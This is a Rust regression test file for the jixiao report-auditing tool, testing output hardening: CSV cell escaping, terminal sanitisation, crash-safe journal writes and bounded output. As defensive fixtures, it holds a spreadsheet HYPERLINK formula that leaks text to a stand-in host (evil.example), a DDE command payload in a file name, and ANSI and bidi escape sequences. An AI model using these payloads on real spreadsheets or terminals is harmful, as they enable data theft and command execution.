//! Regression tests of the output side of the hardening issue (#17): what
//! the dataset and the terminal show of untrusted text, writes that cannot
//! half-happen, and bounded output.
//!
//! Every input is made here: small `.txt` reports (the text layer of a
//! `.txt` is its text, so a sentence reaches the rules as written) with
//! hostile sentences and file names.

use jixiao::batch::RunTimings;
use jixiao::model::{DocumentInfo, Report};
use jixiao::output::journal::{self, Journal, JournalFile};
use jixiao::output::{reports, Dataset, Stored};
use jixiao::record::{Code, Evidence, Finding, Record, Severity, Source, Status};
use serde_json::Value;
use std::fs;
use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

/// One sentence that SCR001 flags (a score above its points).
const SCORE: &str = "采购政策效能分值1分，得分9.99分";

/// A fresh scratch folder for one test.
fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("hardening-{name}"));
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).unwrap();
    dir
}

/// Writes `text` at `root/rel`, creating its folders.
fn write(root: &Path, rel: &str, text: &str) -> PathBuf {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
    path
}

/// Runs `jixiao ARGS…` in `root`.
fn jixiao(root: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_jixiao"))
        .args(args)
        .current_dir(root)
        .output()
        .expect("the jixiao binary runs")
}

fn ok(output: Output) -> Output {
    assert_eq!(
        output.status.code(),
        Some(0),
        "stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn records(out: &Path) -> Vec<Value> {
    fs::read_to_string(out.join("reports.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is one JSON record"))
        .collect()
}

/// The rows of `findings.csv` after its header, as a spreadsheet reads
/// them.
fn csv_rows(out: &Path) -> Vec<Vec<String>> {
    let bytes = fs::read(out.join("findings.csv")).unwrap();
    let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
    csv::Reader::from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Whether a character would act on a terminal or reorder its line.
fn acts_on_a_terminal(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

// Defect 9: spreadsheet formulas from a PDF and from a file name.
#[test]
fn no_findings_csv_cell_is_a_formula() {
    let root = scratch("csv");
    let formula = format!("=HYPERLINK(\"http://evil.example/?q=\"&\"{SCORE}\",\"查看\")");
    // Run inside the folder, as the QA campaign did: the file cells start
    // with the hostile names.
    write(&root, "=cmd|' /C calc'!A0.txt", &format!("{formula}\n"));
    write(&root, "+plus.txt", &format!("-{SCORE}\n"));
    write(&root, "@at.txt", &format!("@{SCORE}\n"));
    write(&root, "-minus.txt", &format!("\t{SCORE}\n"));
    ok(jixiao(
        &root,
        &[
            "audit",
            "=cmd|' /C calc'!A0.txt",
            "+plus.txt",
            "@at.txt",
            "--out",
            "out",
            "--",
            "-minus.txt",
        ],
    ));
    let rows = csv_rows(&root.join("out"));
    assert_eq!(rows.len(), 4, "{rows:?}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?} in {row:?}"
            );
        }
    }
    let quote = |file: &str| &rows.iter().find(|r| r[0] == file).unwrap()[7];
    assert_eq!(quote("'=cmd|' /C calc'!A0.txt"), &format!("'{formula}"));
    assert_eq!(quote("'+plus.txt"), &format!("'-{SCORE}"));
    assert_eq!(quote("'@at.txt"), &format!("'@{SCORE}"));
    assert!(rows.iter().any(|r| r[0] == "'-minus.txt"), "{rows:?}");
    // The dataset keeps the text exactly.
    let quotes: Vec<String> = records(&root.join("out"))
        .iter()
        .map(|r| {
            r["findings"][0]["evidence"][0]["quote"]
                .as_str()
                .unwrap()
                .into()
        })
        .collect();
    assert!(quotes.contains(&formula), "{quotes:?}");
}

// Defect 10: terminal escapes from a PDF's text and from a file name.
#[test]
fn the_terminal_never_gets_a_control_character_from_a_file() {
    let root = scratch("terminal");
    write(
        &root,
        "in/\u{1b}]0;PWNED\u{7}.txt",
        &format!("\u{1b}[2K\u{1b}[1A\u{1b}[2K{SCORE}；\n"),
    );
    write(
        &root,
        "in/x.txt\n  失败 ING001 forged line.txt",
        &format!("{SCORE}\u{202e}\r\u{8}；\n"),
    );
    let shown = ok(jixiao(&root, &["audit", "in"]));
    let text = String::from_utf8(shown.stdout).unwrap();
    assert!(!text.chars().any(acts_on_a_terminal), "{text:?}");
    assert!(text.contains("in/\\u{1b}]0;PWNED\\u{7}.txt\n"), "{text}");
    assert!(
        text.contains("「\\u{1b}[2K\\u{1b}[1A\\u{1b}[2K采购"),
        "{text}"
    );
    assert!(
        text.contains("in/x.txt\\u{a}  失败 ING001 forged line.txt\n"),
        "{text}"
    );
    assert!(!text.lines().any(|l| l.starts_with("  失败")), "{text}");

    // `--json` shows the same text as JSON escapes.
    let one = ok(jixiao(
        &root,
        &["audit", "--json", "in/x.txt\n  失败 ING001 forged line.txt"],
    ));
    let json = String::from_utf8(one.stdout).unwrap();
    assert!(!json.chars().any(acts_on_a_terminal), "{json:?}");
    assert!(json.contains("9.99分\\u202e\\b"), "{json}");
    // And the messages on stderr name the file escaped too.
    let missing = jixiao(&root, &["audit", "in/\u{1b}[2Jmissing.pdf"]);
    assert_eq!(missing.status.code(), Some(2));
    let err = String::from_utf8(missing.stderr).unwrap();
    assert!(!err.chars().any(acts_on_a_terminal), "{err:?}");
    assert!(err.contains("\\u{1b}[2Jmissing.pdf"), "{err}");
}

// Defect 1 and requirement 3: a journal append cut short.

/// What the journal file does on one call of `append`.
#[derive(Clone, Copy, Debug)]
enum Fault {
    /// Writes the first bytes of the line, then fails with this OS error
    /// (28: ENOSPC, 5: EIO).
    Partial(usize, i32),
    /// Writes the whole line, then fails to flush it with this OS error.
    SyncFails(i32),
}

/// A journal file that fails as told: `faults[i]` for the i-th call of
/// `append` (counting retries), and its truncation too when
/// `truncate_fails`.
#[derive(Debug)]
struct Flaky {
    file: fs::File,
    faults: Vec<(usize, Fault)>,
    calls: usize,
    sync_fails: Option<i32>,
    truncate_fails: bool,
}

impl Flaky {
    fn wrap(
        faults: Vec<(usize, Fault)>,
        truncate_fails: bool,
    ) -> impl FnOnce(fs::File) -> Box<dyn JournalFile> {
        move |file| {
            Box::new(Flaky {
                file,
                faults,
                calls: 0,
                sync_fails: None,
                truncate_fails,
            })
        }
    }
}

impl JournalFile for Flaky {
    fn append(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.calls += 1;
        let fault = self.faults.iter().find(|(call, _)| *call == self.calls);
        match fault.map(|(_, f)| *f) {
            Some(Fault::Partial(n, errno)) => {
                self.file.write_all(&bytes[..n.min(bytes.len())])?;
                Err(io::Error::from_raw_os_error(errno))
            }
            Some(Fault::SyncFails(errno)) => {
                self.sync_fails = Some(errno);
                self.file.write_all(bytes)
            }
            None => self.file.write_all(bytes),
        }
    }

    fn sync(&mut self) -> io::Result<()> {
        match self.sync_fails.take() {
            Some(errno) => Err(io::Error::from_raw_os_error(errno)),
            None => self.file.sync_data(),
        }
    }

    fn truncate(&mut self, len: u64) -> io::Result<()> {
        if self.truncate_fails {
            return Err(io::Error::from_raw_os_error(5));
        }
        self.file.set_len(len)
    }

    fn size(&self) -> io::Result<u64> {
        Ok(self.file.metadata()?.len())
    }
}

/// The record of one input: a finding whose quote makes the lines of
/// different lengths.
fn record(i: usize) -> Record {
    Record {
        schema_version: jixiao::record::SCHEMA_VERSION,
        source: Source {
            path: format!("in/a_{i:02}.pdf"),
            sha256: format!("{i:064x}"),
            bytes: 1000 + i as u64,
            pages: Some(1),
            text_layer: Some("pdftext".into()),
            ocr: None,
        },
        status: Status::Ok,
        error: None,
        document: Some(DocumentInfo::default()),
        partners: Vec::new(),
        report: Some(jixiao::ordered_json::OrderedJson::of(&Report::default()).unwrap()),
        findings: vec![Finding {
            rule: Code::SCR001,
            severity: Severity::Error,
            message: "采购政策效能得分 9.99 分，超过其分值 1 分".into(),
            stated: Some("9.99".into()),
            expected: Some("≤ 1".into()),
            evidence: vec![Evidence {
                page: Some(1),
                quote: SCORE.repeat(1 + i % 7),
                source: None,
            }],
            ocr: false,
        }],
        diagnostics: vec![],
    }
}

/// Appends the records 1..=41 through a journal whose file fails as told,
/// writes the dataset, and checks it is exactly that of the 41 records;
/// returns the errors the journal reported and what `--resume` would read
/// back from the journal.
fn journal_run(
    name: &str,
    faults: Vec<(usize, Fault)>,
    truncate_fails: bool,
) -> (Vec<String>, journal::ReadBack) {
    let out = scratch(name);
    let (journal, _) =
        Journal::start_with(&out, Vec::new(), Flaky::wrap(faults, truncate_fails)).unwrap();
    let journal = journal.with_retry_delays(vec![Duration::ZERO; 3]);
    let mut entries = Vec::new();
    let mut said = Vec::new();
    for i in 1..=41 {
        let (stored, failure) = journal.append(record(i));
        said.extend(failure.map(|e| e.to_string()));
        entries.push(stored);
    }
    let back = journal::read(journal.path()).unwrap();
    Dataset::new(entries, &RunTimings::default(), 0)
        .write(&out)
        .unwrap();
    let written = fs::read_to_string(out.join("reports.jsonl")).unwrap();
    let expected: String = (1..=41)
        .map(|i| {
            let mut r = record(i);
            r.report = Some(jixiao::ordered_json::OrderedJson::of(&Report::default()).unwrap());
            reports::line(&r).unwrap() + "\n"
        })
        .collect();
    assert_eq!(written, expected, "reports.jsonl is not the 41 records");
    journal.remove().unwrap();
    (said, back)
}

#[test]
fn a_journal_append_cut_short_by_a_full_disk_is_retried_in_place() {
    // The first attempt at record 5 writes 4000 bytes of it and fails;
    // the retry writes it whole, where the cut bytes were.
    let (said, back) = journal_run("enospc-retried", vec![(5, Fault::Partial(4000, 28))], false);
    assert!(said.is_empty(), "{said:?}");
    assert_eq!((back.entries.len(), back.ignored), (41, 0));
}

#[test]
fn a_record_the_journal_cannot_take_stays_in_memory_and_later_ones_land_right() {
    // Every attempt at record 5 fails (1 + 3 retries) after writing a few
    // bytes; space comes back for record 6 (the QA case: 21 of 41 lines of
    // reports.jsonl were not JSON).
    let faults = (5..=8).map(|call| (call, Fault::Partial(7, 28))).collect();
    let (said, back) = journal_run("enospc-memory", faults, false);
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(
        said[0].contains("reports.partial.jsonl（磁盘空间已满"),
        "{}",
        said[0]
    );
    assert!(said[0].contains("已重试 3 次"), "{}", said[0]);
    assert!(said[0].contains("所在磁盘："), "{}", said[0]);
    // The journal holds every other record, whole: --resume audits only
    // record 5 again.
    assert_eq!((back.entries.len(), back.ignored), (40, 0));
    assert!(back.entries.iter().all(|s| s.path() != "in/a_05.pdf"));
}

#[test]
fn a_flush_that_fails_with_an_io_error_is_cut_back_and_retried() {
    let faults = vec![
        (3, Fault::SyncFails(5)),
        (10, Fault::SyncFails(5)),
        (11, Fault::Partial(1, 5)),
    ];
    let (said, back) = journal_run("eio", faults, false);
    assert!(said.is_empty(), "{said:?}");
    assert_eq!((back.entries.len(), back.ignored), (41, 0));
}

#[test]
fn a_journal_that_cannot_be_cut_back_stops_and_nothing_is_lost() {
    let (said, back) = journal_run("broken", vec![(20, Fault::Partial(9, 5))], true);
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(said[0].contains("磁盘读写错误"), "{}", said[0]);
    assert!(said[0].contains("不再写入"), "{}", said[0]);
    // The 19 whole lines before it, then a torn end that counts for none.
    assert_eq!((back.entries.len(), back.ignored), (19, 1));
}

#[test]
fn resume_trusts_only_whole_records() {
    let out = scratch("resume-validates");
    let line = |r: &Record| reports::line(r).unwrap();
    let good = line(&record(1));
    let whole = line(&record(2));
    let mut ok_with_error: Value = serde_json::from_str(&line(&record(3))).unwrap();
    ok_with_error["error"] = serde_json::json!({"code": "ING001", "message": "x"});
    let mut bad_sha: Value = serde_json::from_str(&line(&record(4))).unwrap();
    bad_sha["source"]["sha256"] = "xyz".into();
    let mut failed_rule: Value = serde_json::from_str(&line(&record(5))).unwrap();
    failed_rule["status"] = "failed".into();
    failed_rule["error"] = serde_json::json!({"code": "SCR001", "message": "x"});
    let text = format!(
        "{good}\n{}{whole}\n{ok_with_error}\n{bad_sha}\n{failed_rule}\n[]\n{}",
        &good[..100],
        &good[..50]
    );
    fs::write(out.join(journal::JOURNAL_FILE), text).unwrap();
    let back = journal::read(&out.join(journal::JOURNAL_FILE)).unwrap();
    let paths: Vec<&str> = back.entries.iter().map(Stored::path).collect();
    // A torn line glued to a whole one, a success with an error, a bad
    // hash, a failure with a rule code, not a record, a torn end.
    assert_eq!(paths, ["in/a_01.pdf"]);
    assert_eq!(back.ignored, 6);
}

// Defect 15: leftovers of a killed run, and a resume that counts copies.

#[test]
fn a_run_removes_the_temporaries_a_killed_run_left() {
    let root = scratch("temporaries");
    write(&root, "in/a.txt", &format!("{SCORE}\n"));
    let stale = [
        ".reports.jsonl.4194301.tmp",
        ".findings.csv.12.tmp",
        ".summary.json.77.tmp",
        ".findings.xlsx.3.tmp",
        ".reports.partial.jsonl.5.tmp",
        "..jixiao.settings.6.tmp",
    ];
    let others = [".notes.txt.12.tmp", "keep.tmp", ".reports.jsonl.tmp"];
    for name in stale.iter().chain(&others) {
        write(&root, &format!("out/{name}"), "half a file");
    }
    let run = ok(jixiao(&root, &["audit", "in", "--out", "out"]));
    let err = String::from_utf8(run.stderr).unwrap();
    assert!(err.contains("留下的 6 个临时文件"), "{err}");
    let mut names: Vec<String> = fs::read_dir(root.join("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            ".jixiao.lock",
            ".jixiao.settings",
            ".notes.txt.12.tmp",
            ".reports.jsonl.tmp",
            "findings.csv",
            "findings.xlsx",
            "keep.tmp",
            "report",
            "reports.jsonl",
            "summary.json"
        ]
    );
}

#[test]
fn resuming_when_nothing_changed_drops_nothing() {
    let root = scratch("resume-copies");
    for i in 0..6 {
        write(
            &root,
            &format!("in/r{i}.txt"),
            &format!("{}\n", SCORE.repeat(i + 1)),
        );
    }
    ok(jixiao(&root, &["audit", "in", "--out", "out"]));
    let out = root.join("out");
    let finished = fs::read(out.join("reports.jsonl")).unwrap();
    // A run killed after writing its dataset, before removing its journal
    // (or a resumed run killed after starting its journal): both hold
    // every record.
    fs::write(out.join(journal::JOURNAL_FILE), &finished).unwrap();
    let resumed = ok(jixiao(&root, &["audit", "in", "--out", "out", "--resume"]));
    let err = String::from_utf8(resumed.stderr).unwrap();
    assert!(
        err.contains("沿用 6 个文件的已有记录，检查其余 0 个文件"),
        "{err}"
    );
    assert!(!err.contains("不再使用"), "{err}");
    assert_eq!(fs::read(out.join("reports.jsonl")).unwrap(), finished);

    // A file gone and a file changed are counted, each for what it is.
    fs::remove_file(root.join("in/r0.txt")).unwrap();
    write(&root, "in/r1.txt", &format!("{SCORE}。\n"));
    fs::write(out.join(journal::JOURNAL_FILE), &finished).unwrap();
    let resumed = ok(jixiao(&root, &["audit", "in", "--out", "out", "--resume"]));
    let err = String::from_utf8(resumed.stderr).unwrap();
    assert!(
        err.contains("另有 2 条已有记录不再使用：1 条的文件已不在输入中，1 条的文件内容已改变"),
        "{err}"
    );
}

// Defect 4, the output part: output quadratic in the input.
#[test]
fn one_line_of_a_thousand_statements_writes_a_bounded_record() {
    let root = scratch("quadratic");
    // Every finding quotes the whole line: 1000 findings of 17,000
    // characters each, 51 MB, before the caps.
    write(
        &root,
        "in/line.txt",
        &format!("{}\n", "采购政策效能分值1分得分9.99分 ".repeat(1000)),
    );
    ok(jixiao(&root, &["audit", "in", "--out", "out"]));
    let out = root.join("out");
    for file in ["reports.jsonl", "findings.csv"] {
        let size = fs::metadata(out.join(file)).unwrap().len();
        assert!(size < 1_000_000, "{file}: {size} bytes");
    }
    let record = &records(&out)[0];
    let findings = record["findings"].as_array().unwrap();
    assert_eq!(findings.len(), jixiao::analyze::MAX_FINDINGS);
    let quote = findings[0]["evidence"][0]["quote"].as_str().unwrap();
    assert!(
        quote.ends_with(jixiao::analyze::QUOTE_CUT_MARKER),
        "{quote}"
    );
    let capped: Vec<&str> = record["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["kind"] == "output_capped")
        .map(|d| d["message"].as_str().unwrap())
        .collect();
    assert_eq!(capped.len(), 2, "{capped:?}");
    assert!(capped[0].contains("另有 800 个未记录"), "{capped:?}");
    assert!(capped[1].contains("引文过长"), "{capped:?}");
}
